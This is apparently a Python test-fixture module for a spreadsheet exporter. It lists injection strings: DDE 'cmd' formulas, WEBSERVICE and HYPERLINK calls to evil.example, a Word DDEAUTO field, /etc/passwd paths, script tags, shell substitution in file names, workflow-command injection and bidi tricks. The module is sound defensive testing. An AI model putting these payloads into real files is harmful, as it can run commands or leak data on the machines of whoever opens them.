"""Words that some program somewhere takes for more than words; § stands for a mark that tells one cell from another."""

from __future__ import annotations

import re
from collections.abc import Mapping
from xml.sax.saxutils import escape

from compiler.returns.text import LONGEST_TEXT

WORDS: Mapping[str, str] = {
    "a command": "=cmd|' /C calc'!§",
    "a formula": "=1+1&\"§\"",
    "an array formula": "{=SUM(A1:A9)+§}",
    "a formula that fetches": '=WEBSERVICE("http://evil.example/§")',
    "a formula that links": '=HYPERLINK("http://evil.example/§";"click")',
    "a function of Lotus": "@SUM(A1:A9) §",
    "a plus": "+1+cmd|' /C calc'!§",
    "a minus": "-1+cmd|' /C calc'!§",
    "a tab and a formula": "\t=1+§",
    "a line end and a formula": "\r\n=1+§",
    "a full-width formula": "＝1+1 §",
    "an address": "http://evil.example/§",
    "a mailbox": "mailto:a@evil.example?subject=§",
    "a place within": "internal:'Contents'!A1 §",
    "a place outside": "external:C:\\Windows\\System32\\§.exe",
    "a file": "file:///etc/passwd §",
    "a share": "\\\\server\\share\\§",
    "a folder above": "../../../../etc/§",
    "a script address": "javascript:alert('§')",
    "data as an address": "data:text/html,<b>§</b>",
    "a slot": "{{slot}} {% include x %} ${§} [[part:§]]",
    "a field": "MERGEFIELD § \\* MERGEFORMAT { HYPERLINK \"http://evil.example\" }",
    "a command of Word": "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\" INCLUDETEXT §",
    "codes of a header": "&P &D &[File] &\"Arial,Bold\"&24 §&",
    "a script": "<script>alert('§')</script><img src=x onerror=alert(1)>",
    "the end of a section": "]]><!-- § --><?php ?>",
    "an entity": "&lt;§&gt; &amp;amp; &#65; &nbsp;",
    "a word of markup": "</w:t></w:r><w:instrText>§</w:instrText>",
    "rich text of a writer": "<r><t>§</t></r>",
    "an escape that is none": "_x0041_§_x000D_ _x005F_",
    "control characters": "a\x00b\x01\x08\x0b\x0c\x1f§",
    "an escape of a terminal": "\x1b[31m\x1b]0;§\x07\x1b[2J\x9b31m\x7f",
    "no character": "a\ufffe\uffff§",
    "half a character": "a\ud83d § \udc00b",
    "the other way round": "\u202egnp.exe§\u202c \u2066§\u2069\u200f",
    "nothing to be seen": "\u200b\u2060\ufeff§\u00ad",
    "a workflow command": "x\n::error file=a.py::§%0A::set-env name=X::y\r::stop-commands::§",
    "settings": '§"\n[[amendment]]\nby = \'\'\'x\'\'\' """ \\" # \\u0041',
    "marks of markup": "[link=http://evil.example]§[/link] [bold]x[/] :smile: **b** `c` | d",
    "a path of a spreadsheet": "='[http://evil.example/x.xlsx]S'!A1 §",
    "quotation marks": "\"§\",'x',\"\"\r\n\"y\";z\tw",
    "spaces": "   §   \n  ",
    "too much of it": "§ " + "x" * (LONGEST_TEXT + 1 - 9),
}  # fmt: skip
"""By what each is; `too much of it` is 32,768 characters, one more than Excel takes."""

SHEET_NAMES = (
    "=cmd|' C calc'!A1",
    "http:evil.example",
    'Actions & Co\'s <b> "q" #1!',
    "{=SUM(A1)} @x +1 -1",
    "A:B*C?D[E]F/G\\H",
    "A name of many more than thirty-one characters",
    "History",
    "'Actions'",
    "&P &D &A",
    "\u202eActions\u202c",
    "Act\x1b[31mions\n::error::x",
    "\u200bActions",
)
"""Names of sheets that Excel forbids, that a program may take for more than a name, or that look like another."""

FILE_NAMES = (
    "=1+1.xlsx",
    "@SUM(A1).xlsx",
    "-x +y.xlsx",
    "a&b's <i>'[x].xlsx",
    "#frag?q=1%20%41.xlsx",
    "$(id) `id` ;x|y.xlsx",
    "\u202eslx.a.xlsx",
    "x\x1b[31m\x07.xlsx",
    "a\n::error::b.xlsx",
    "a..b..xlsx",
    'q"uo"te, semi; colon.xlsx',
    "http:evil.example.xlsx",
)
"""Names that a file may have on some system."""

_UNWRITABLE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\ud800-\udfff\ufffe\uffff]")
_LOOKS_ESCAPED = re.compile("_(?=x[0-9A-Fa-f]{4}_)")


def as_typed(kind: str, mark: str) -> str:
    """The words of a kind with the mark of a cell."""
    return WORDS[kind].replace("§", mark)


def in_a_workbook(words: str) -> str:
    """Words as a workbook holds them in XML, where what XML cannot hold has an escape of its own."""
    safe = _LOOKS_ESCAPED.sub("_x005F_", words)
    return _UNWRITABLE.sub(
        lambda each: f"_x{ord(each[0]):04X}_", escape(safe, {'"': "&quot;", "\n": "&#10;", "\t": "&#9;"})
    )
